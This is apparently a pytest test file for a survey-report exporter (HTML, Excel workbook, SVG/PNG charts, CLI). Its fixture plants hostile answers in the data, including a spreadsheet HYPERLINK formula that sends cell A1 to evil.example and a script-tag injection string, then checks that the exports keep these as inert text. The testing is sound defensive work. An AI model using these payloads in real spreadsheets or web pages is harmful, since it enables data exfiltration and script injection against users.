"""The exports a researcher attaches to an email: standalone HTML, a safe workbook, chart files."""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
from datetime import UTC, datetime
from html.parser import HTMLParser

import openpyxl
import pytest
from openpyxl.utils import get_column_letter

from conftest import DATA, ROOT
from reports.content import ReportContext, build_sections, overall_pareto
from reports.html import report_html
from reports.images import chart_png, chart_svg
from reports.snapshots import SnapshotStore
from reports.workbook import report_workbook
from surveys import load_survey

HOSTILE = {
    0: '=HYPERLINK("http://evil.example/?x="&A1,"点我领红包")',
    1: "<script>alert('x')</script>太贵了",
    2: "+86 138 0000 0000 打不通客服",
    3: "-1 分，服务太差",
    4: "@SUM(1+1) 离家太远",
}


@pytest.fixture(scope="module")
def context(test_codebook):
    from analysis.pipeline import tag_answers

    survey = load_survey(DATA / "survey_utf8.csv")
    frame = survey.frame.copy()
    for row, text in HOSTILE.items():
        frame.loc[frame.index[row], "流失原因"] = text
    coded = tag_answers(frame, "流失原因", test_codebook, learned=False)
    return ReportContext(coded, "流失原因", test_codebook, survey.segment_columns,
                         {"filters": {}, "base": "respondents", "weight": None}, "zh", "survey_utf8.csv")


class Elements(HTMLParser):
    """Tags and their attributes, plus all text, as a browser's parser sees them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def parsed(html: str) -> Elements:
    elements = Elements()
    elements.feed(html)
    return elements


def test_html_is_one_offline_file_with_every_answer_as_text(context):
    html = report_html("季度报告 <b>Q3</b>", build_sections(context), datetime(2026, 11, 23, tzinfo=UTC))
    page = parsed(html)
    tags = [tag for tag, _ in page.tags]
    assert "script" not in tags and "iframe" not in tags and "link" not in tags
    for tag, attrs in page.tags:
        for name in ("src", "href"):
            assert not re.match(r"\s*(https?:)?//", attrs.get(name) or ""), (tag, attrs)
    text = "".join(page.text)
    assert "<script>alert('x')</script>太贵了" in text  # shown to the reader as typed, never run
    assert '=HYPERLINK("http://evil.example/?x="&A1,"点我领红包")' in text
    assert "季度报告 <b>Q3</b>" in text and "b" not in tags
    assert "svg" in tags  # the Pareto chart is drawn inline


def test_html_shows_the_pareto_numbers_the_app_shows(context, test_codebook):
    table = overall_pareto(context)
    html = report_html("t", build_sections(context), datetime.now(UTC))
    names = test_codebook.names("zh")
    rows = re.findall(r"<tr><td>([^<]*)</td><td class=\"num\">([\d,]+)</td><td class=\"num\">([\d.]+)%</td>", html)
    shown = {name: (int(count), share) for name, count, share in rows}
    for _, line in table.iterrows():
        assert shown[names[line["reason"]]] == (line["count"], f"{line['share'] * 100:.1f}")
    for title in ("数据概况", "帕累托分析", "按“区域”细分", "典型原话", "所用编码本"):
        assert f"<h2>{title}</h2>" in html


def test_workbook_keeps_formula_like_answers_as_text(context, tmp_path):
    path = tmp_path / "report.xlsx"
    path.write_bytes(report_workbook(build_sections(context), context.rows))
    book = openpyxl.load_workbook(path)
    coded = book["编码结果"]
    header = [c.value for c in coded[1]]
    answers = {c.value: c for c in coded[get_column_letter(header.index("流失原因") + 1)][1:]}
    for text in HOSTILE.values():
        cell = answers[text]
        assert cell.data_type == "s", (text, cell.data_type)
    assert answers[HOSTILE[0]].quotePrefix
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), sheet.title
    assert coded["A2"].value == "000101"  # IDs stay text with their zeros
    assert {"数据概况", "帕累托分析", "按“区域”细分", "典型原话", "所用编码本", "编码结果"} <= set(book.sheetnames)


def test_workbook_pareto_sheet_holds_the_numbers_and_shares_as_percentages(context, test_codebook):
    book = openpyxl.load_workbook(io.BytesIO(report_workbook(build_sections(context), context.rows)))
    sheet = book["帕累托分析"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    table = overall_pareto(context)
    names = test_codebook.names("zh")
    assert [(r[0], r[1]) for r in rows] == [(names[r], c) for r, c in zip(table["reason"], table["count"])]
    assert sheet["C2"].number_format == "0.0%" and sheet["C2"].value == pytest.approx(table["share"].iloc[0])


def test_chart_files_are_real_svg_and_png(context, test_codebook):
    from analysis.charts import pareto_chart

    chart = pareto_chart(overall_pareto(context), test_codebook.names("zh"), "zh")
    svg = chart_svg(chart)
    assert svg.startswith("<svg") and "流失原因帕累托图" in svg
    assert chart_png(chart)[:8] == b"\x89PNG\r\n\x1a\n"


def run_cli(*args, env=None):
    return subprocess.run([sys.executable, "-m", "analysis", "report", *map(str, args)], cwd=ROOT,
                          capture_output=True, text=True, env={**os.environ, **(env or {})}, timeout=300)


def test_cli_saves_a_link_and_writes_both_exports(tmp_path):
    db = f"sqlite:///{tmp_path / 'r.sqlite'}"
    result = run_cli(DATA / "survey_utf8.csv", "--save", "--title", "Q3 回访", "--html", tmp_path / "r.html",
                     "--xlsx", tmp_path / "r.xlsx", "--base-url", "https://churnlens.example/app/",
                     env={"CHURNLENS_DB": db})
    assert result.returncode == 0, result.stderr
    link, secret = result.stdout.splitlines()
    token = re.fullmatch(r"https://churnlens\.example/app/\?report=([\w-]{32,})", link).group(1)
    assert secret.startswith("delete secret: ")
    loaded = SnapshotStore(db).load(token)
    assert loaded.title == "Q3 回访" and len(loaded.rows) == 12
    assert "<h1>Q3 回访</h1>" in (tmp_path / "r.html").read_text(encoding="utf-8")
    assert "帕累托分析" in openpyxl.load_workbook(tmp_path / "r.xlsx").sheetnames
    assert not list(tmp_path.glob("*.tmp"))


@pytest.mark.parametrize("args, message", [
    ([DATA / "empty.csv", "--html", "OUT"], "empty"),
    ([DATA / "survey_utf8.csv", "--html", "OUT", "--text-col", "nope"], "No column 'nope'"),
    ([DATA / "survey_utf8.csv"], "--save, --html"),
    ([DATA / "survey_utf8.csv", "--html", "/no/such/dir/r.html"], "does not exist"),
])
def test_cli_bad_input_exits_2_with_one_sentence_and_no_file(tmp_path, args, message):
    args = [tmp_path / "r.html" if a == "OUT" else a for a in args]
    result = run_cli(*args, env={"LANG": "C"})
    assert result.returncode == 2
    assert message in result.stderr and "Traceback" not in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_cli_unreachable_database_is_one_sentence(tmp_path):
    result = run_cli(DATA / "survey_utf8.csv", "--save", "--db", "postgresql+psycopg://x@127.0.0.1:1/x",
                     env={"LANG": "C"})
    assert result.returncode == 2
    assert result.stderr.startswith("Could not save to the report database") and "Traceback" not in result.stderr


def test_reports_carry_the_significant_segment_differences_and_reason_pairs(test_codebook):
    from analysis.pipeline import tag_answers

    survey = load_survey(DATA / "stores_by_region.csv")
    coded = tag_answers(survey.frame, "流失原因", test_codebook, learned=False)
    context = ReportContext(coded, "流失原因", test_codebook, ["区域"],
                            {"filters": {}, "base": "respondents", "weight": None}, "zh", "stores_by_region.csv")
    sections = {s.key: s for s in build_sections(context)}
    difference = sections["difference:区域"].table
    cell = difference.set_index(["细分", "原因"])
    assert cell.loc[("东县", "距离"), "显著"] == "是" and cell.loc[("东县", "距离"), "人数"] == 30
    assert cell.loc[("西乡", "其他"), "样本过小"] == "是" and cell.loc[("西乡", "其他"), "显著"] == ""
    html = report_html("t", list(sections.values()), datetime.now(UTC), "zh")
    assert "“区域”间的差异（显著性）" in html


def test_reports_list_reasons_named_together(test_codebook):
    import pandas as pd

    rows = pd.DataFrame({"text": ["隔壁便宜", "隔壁便宜多了", "太贵", "挺好"],
                         "tags": ["distance|price", "distance|price", "price", "other"], "evidence": [""] * 4})
    context = ReportContext(rows, "text", test_codebook, [], {"filters": {}}, "zh", "x.csv")
    table = {s.key: s for s in build_sections(context)}["cooccurrence"].table
    assert table.to_dict("records") == [{"原因": "价格", "同时提及": "距离", "人数": 2, "占该原因比例": 2 / 3}]
